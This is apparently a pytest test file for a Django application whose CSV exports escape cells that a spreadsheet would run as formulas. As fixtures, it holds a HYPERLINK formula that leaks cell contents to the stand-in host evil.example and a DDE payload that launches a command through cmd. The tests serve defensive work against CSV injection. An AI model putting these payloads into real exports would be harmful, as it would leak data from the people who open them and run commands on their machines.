"""Every CSV the application writes defuses cells a spreadsheet would run as a formula."""

import csv
import io
from pathlib import Path

import pytest
from django.urls import reverse

from proeftuin import spreadsheets
from tests import factories

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1;"Klik")'


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_starting_a_formula_gets_a_leading_quote(start):
    out = io.StringIO()
    spreadsheets.writer(out).writerow([f"{start}1+1", "gewone tekst"])
    assert next(csv.reader(io.StringIO(out.getvalue()), delimiter=";")) == [
        f"'{start}1+1",
        "gewone tekst",
    ]


def test_numbers_the_code_writes_stay_numbers_even_when_negative():
    out = io.StringIO()
    spreadsheets.writer(out).writerow([-3, -1.5, 0, "-3"])
    assert out.getvalue() == "-3;-1.5;0;'-3\r\n"


def test_the_coachs_participants_csv_shows_formulas_in_names_and_goals_as_text(pilot, client_for):
    pilot.participant.user.full_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    pilot.participant.user.save()
    factories.GoalFactory(membership=pilot.participant, statement=FORMULA)
    response = client_for(pilot.coach).get(
        reverse("learning:participants-csv", args=[pilot.proeftuin.pk])
    )
    (row,) = _rows(response)[1:]
    assert row[2] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row[3] == "'" + FORMULA


def test_no_cell_of_the_overview_csv_starts_a_formula(pilot, client_for):
    pilot.participant.user.full_name = "=1+1"
    pilot.participant.user.save()
    factories.ActivityFactory(membership=pilot.participant, title=FORMULA)
    response = client_for(pilot.director).get(
        reverse("proeftuin:overview-export", args=[pilot.proeftuin.pk])
    )
    cells = [cell for row in _rows(response) for cell in row]
    assert cells
    assert [cell for cell in cells if cell.startswith(spreadsheets.FORMULA_STARTS)] == []


def test_every_csv_of_the_application_goes_through_the_one_writer():
    writers = [
        str(path.relative_to(ROOT))
        for app in ("proeftuin", "learning", "workshops", "notifications", "config")
        for path in (ROOT / app).rglob("*.py")
        if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()
    ]
    assert writers == ["proeftuin/spreadsheets.py"]
